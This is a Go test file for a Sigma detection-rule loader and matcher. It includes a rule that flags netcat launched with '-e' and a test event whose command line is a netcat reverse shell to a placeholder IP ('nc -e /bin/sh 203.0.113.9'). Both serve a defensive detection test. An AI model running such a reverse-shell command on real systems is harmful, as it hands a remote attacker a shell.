// SPDX-License-Identifier: Apache-2.0

package sigma

import (
	"fmt"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/assert"

	"github.com/meerkat-otel/meerkat/internal/names"
)

func ExampleLoad() {
	folder := fstest.MapFS{
		"good.yml": {Data: []byte(`title: Network tool with a shell
logsource: {product: linux, category: process_creation}
detection:
    tool: {Image|endswith: /nc, CommandLine|contains: ' -e '}
    condition: tool
level: high
`)},
		"bad.yml": {Data: []byte("title: Nothing\n")},
	}
	set, report := Load(Source{Name: "example", Files: folder})
	for _, refused := range report.Refused {
		fmt.Println(refused)
	}

	var event Event
	category, _ := CategoryOf(names.EventProcessExec, "")
	event.Reset(category)
	event.SetText(FieldImage, "/usr/bin/nc")
	for _, argument := range []string{"nc", "-e", "/bin/sh", "203.0.113.9"} {
		event.AddText(FieldCommandLine, argument)
	}
	for _, number := range set.Match(&event, nil) {
		fmt.Println(set.Rule(number).Title, set.Rule(number).Level)
	}
	// Output:
	// example/bad.yml:1: broken: the rule has no logsource
	// Network tool with a shell high
}

// Values that rules have in another form than attributes.
func TestEvent_otherForms(t *testing.T) {
	var event Event
	text := func(f Field) string {
		if !event.has(f) {
			return "absent"
		}
		return string(event.text(f, true))
	}
	event.SetUserID(0)
	assert.Equal(t, "root", text(FieldUser))
	assert.Equal(t, "0", text(FieldUserID))
	event.SetUserID(33)
	assert.Equal(t, "33", text(FieldUser))
	event.SetSide("unknown")
	assert.Equal(t, "absent", text(FieldInitiated))
	event.SetSide("server")
	assert.Equal(t, "false", text(FieldInitiated))
	event.SetSide("client")
	assert.Equal(t, "true", text(FieldInitiated))
	event.SetSHA256("ab12")
	assert.Equal(t, "SHA256=ab12", text(FieldHashes))
	event.SetFileOperation(names.EventFileModeChange)
	assert.Equal(t, "mode_change", text(FieldFileOperation))
}
